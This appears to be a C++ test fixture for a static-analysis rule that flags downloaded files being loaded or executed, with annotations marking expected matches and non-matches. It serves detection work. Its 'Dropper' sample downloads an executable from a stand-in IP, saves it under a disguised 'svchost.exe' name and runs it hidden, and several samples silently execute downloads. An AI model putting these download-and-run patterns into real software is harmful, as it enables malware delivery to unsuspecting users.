// Dynamic-code samples in C++: files downloaded and then loaded or started — product
// updaters, plug-in fetchers and droppers — and downloads that are never executed.
#include <windows.h>
#include <urlmon.h>
#include <wininet.h>
#include <shellapi.h>
#include <bits.h>
#include <atlbase.h>
#include <dlfcn.h>
#include <string>

#define PAYLOAD_PATH "C:\\Users\\Public\\svchost.exe"

class Updater {
public:
    Updater();
    bool CheckAndApply(const std::wstring &url);
    bool InstallPlugin(const std::wstring &name);
private:
    std::wstring Download(const std::wstring &url, const std::wstring &fileName);
    std::wstring m_cacheDir;
};

Updater::Updater()
{
    wchar_t dir[MAX_PATH];
    GetTempPathW(MAX_PATH, dir);
    m_cacheDir = dir;
}

std::wstring Updater::Download(const std::wstring &url, const std::wstring &fileName)
{
    wchar_t target[MAX_PATH];
    wcscpy_s(target, m_cacheDir.c_str());
    wcscat_s(target, fileName.c_str());
    if (FAILED(URLDownloadToFileW(NULL, url.c_str(), target, 0, NULL)))
        return std::wstring();
    return target;
}

bool Updater::CheckAndApply(const std::wstring &url)
{
    std::wstring setup = Download(url, L"setup.exe");
    if (setup.empty())
        return false;
    std::wstring cmd = L"\"" + setup + L"\" /quiet /norestart";
    STARTUPINFOW si = { sizeof(si) };
    PROCESS_INFORMATION pi;
    return CreateProcessW(NULL, &cmd[0], NULL, NULL, FALSE, 0, NULL, NULL, &si, &pi) != FALSE; // want "dynamic-code/downloaded-code-run"
}

bool Updater::InstallPlugin(const std::wstring &name)
{
    std::wstring dll = Download(L"https://plugins.avcorp.example/" + name, name);
    HMODULE h = LoadLibraryW(dll.c_str()); // want "dynamic-code/downloaded-code-run"
    return h != NULL;
}

// Verified before it runs: still reported, for the reviewer to confirm the check.
extern bool VerifyAuthenticode(const wchar_t *path);

void ApplyVerified(const wchar_t *url)
{
    wchar_t path[MAX_PATH] = L"C:\\ProgramData\\AvCorp\\update.msi";
    URLDownloadToFileW(NULL, url, path, 0, NULL);
    if (VerifyAuthenticode(path))
        ShellExecuteW(NULL, L"open", L"msiexec.exe", (std::wstring(L"/i ") + path).c_str(), NULL, SW_HIDE); // want "dynamic-code/downloaded-code-run"
}

// Through the cache: URLDownloadToCacheFile names the file it wrote.
void RunFromCache(LPCSTR url)
{
    char cached[MAX_PATH];
    URLDownloadToCacheFileA(NULL, url, cached, MAX_PATH, 0, NULL);
    WinExec(cached, SW_HIDE); // want "dynamic-code/downloaded-code-run"
}

// FTP drop.
void FtpDrop(HINTERNET ftp)
{
    char local[MAX_PATH];
    GetTempFileNameA(".", "upd", 0, local);
    FtpGetFileA(ftp, "/pub/agent.dll", local, FALSE, FILE_ATTRIBUTE_NORMAL, FTP_TRANSFER_TYPE_BINARY, 0);
    LoadLibraryExA(local, NULL, 0); // want "dynamic-code/downloaded-code-run"
}

// BITS, the way Windows Update does it.
void BitsDownloadAndRun(IBackgroundCopyManager *mgr)
{
    GUID id;
    IBackgroundCopyJob *job = NULL;
    mgr->CreateJob(L"AvCorp update", BG_JOB_TYPE_DOWNLOAD, &id, &job);
    wchar_t local[MAX_PATH] = L"C:\\ProgramData\\AvCorp\\patch.exe";
    job->AddFile(L"https://cdn.avcorp.example/patch.exe", local);
    job->Resume();
    job->Complete();
    ShellExecuteW(NULL, L"open", local, NULL, NULL, SW_HIDE); // want "dynamic-code/downloaded-code-run"
}

// The dropper writes to a constant path and runs the same constant.
void Dropper()
{
    URLDownloadToFileA(NULL, "http://203.0.113.7/s.exe", PAYLOAD_PATH, 0, NULL);
    WinExec(PAYLOAD_PATH, SW_HIDE); // todo "dynamic-code/downloaded-code-run" the download and the run share a constant path (a macro), not a variable: there is no data flow to follow
}

// Linux plug-in fetched with libcurl into a file and dlopen'ed.
static size_t ToFile(void *p, size_t s, size_t n, void *f) { return fwrite(p, s, n, (FILE *)f); }

void FetchModule(CURL *curl, const char *url)
{
    char path[] = "/tmp/modXXXXXX";
    int fd = mkstemp(path);
    FILE *f = fdopen(fd, "wb");
    curl_easy_setopt(curl, CURLOPT_URL, url);
    curl_easy_setopt(curl, CURLOPT_WRITEFUNCTION, ToFile);
    curl_easy_setopt(curl, CURLOPT_WRITEDATA, f);
    curl_easy_perform(curl);
    fclose(f);
    dlopen(path, RTLD_NOW); // todo "dynamic-code/downloaded-code-run" libcurl writing into a file (CURLOPT_WRITEDATA to a FILE * opened on path) is not a download source; only URLDownloadToFile, FtpGetFile and BITS are
}

// ---- must not match -------------------------------------------------------------------------

void RefreshSignatures(const wchar_t *url)
{
    wchar_t db[MAX_PATH] = L"C:\\ProgramData\\AvCorp\\signatures.db";
    URLDownloadToFileW(NULL, url, db, 0, NULL);
    HANDLE f = CreateFileW(db, GENERIC_READ, FILE_SHARE_READ, NULL, OPEN_EXISTING, 0, NULL); // ok: opened as data, not loaded or run
    CloseHandle(f);
    STARTUPINFOW si = { sizeof(si) };
    PROCESS_INFORMATION pi;
    wchar_t reload[] = L"C:\\Program Files\\AvCorp\\avsvc.exe /reload";
    CreateProcessW(NULL, reload, NULL, NULL, FALSE, 0, NULL, NULL, &si, &pi); // ok: the installed service, not the download
}

void LoadSystemDll()
{
    HMODULE h = LoadLibraryW(L"wintrust.dll"); // ok: a system library
    FreeLibrary(h);
}

void OpenReleaseNotes(const wchar_t *url)
{
    wchar_t notes[MAX_PATH] = L"C:\\ProgramData\\AvCorp\\notes.html";
    URLDownloadToFileW(NULL, url, notes, 0, NULL);
    ShellExecuteW(NULL, L"open", L"https://avcorp.example/release-notes", NULL, NULL, SW_SHOWNORMAL); // ok: a URL opened in the browser, not the downloaded file
}

int RunLocalTool(int argc, char **argv)
{
    return argc > 1 ? (int)(INT_PTR)ShellExecuteA(NULL, "open", argv[1], NULL, NULL, SW_SHOW) : 0; // ok: a program named on the command line
}
